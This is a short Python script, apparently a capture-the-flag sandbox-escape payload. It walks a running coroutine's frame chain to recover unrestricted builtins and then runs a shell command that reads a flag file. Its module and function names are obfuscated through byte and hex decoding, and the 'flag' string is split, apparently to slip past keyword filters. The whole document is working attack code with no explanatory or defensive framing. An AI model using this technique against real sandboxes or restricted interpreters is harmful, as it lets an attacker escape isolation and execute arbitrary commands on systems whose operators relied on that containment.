# technique: running coroutine reads its own cr_frame and follows f_back to outer globals; names via bytes.decode
K_BI = bytes([95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]).decode()
K_IM = b"\x5f\x5f\x69\x6d\x70\x6f\x72\x74\x5f\x5f".decode()
K_MOD = bytes.fromhex("6f73").decode()
K_FN = bytes.fromhex("706f70656e").decode()

holder = {}

async def walker():
    f = holder["c"].cr_frame
    chain = []
    while f is not None:
        chain.append(f.f_globals.get(K_BI))
        f = f.f_back
    return chain

c = walker()
holder["c"] = c
try:
    c.send(None)
except StopIteration as stop:
    found = stop.value
for bi in found:
    if bi is None:
        continue
    table = bi if isinstance(bi, dict) else vars(bi)
    m = table[K_IM](K_MOD)
    print(getattr(m, K_FN)("cat /fl" + "ag").read())
    break
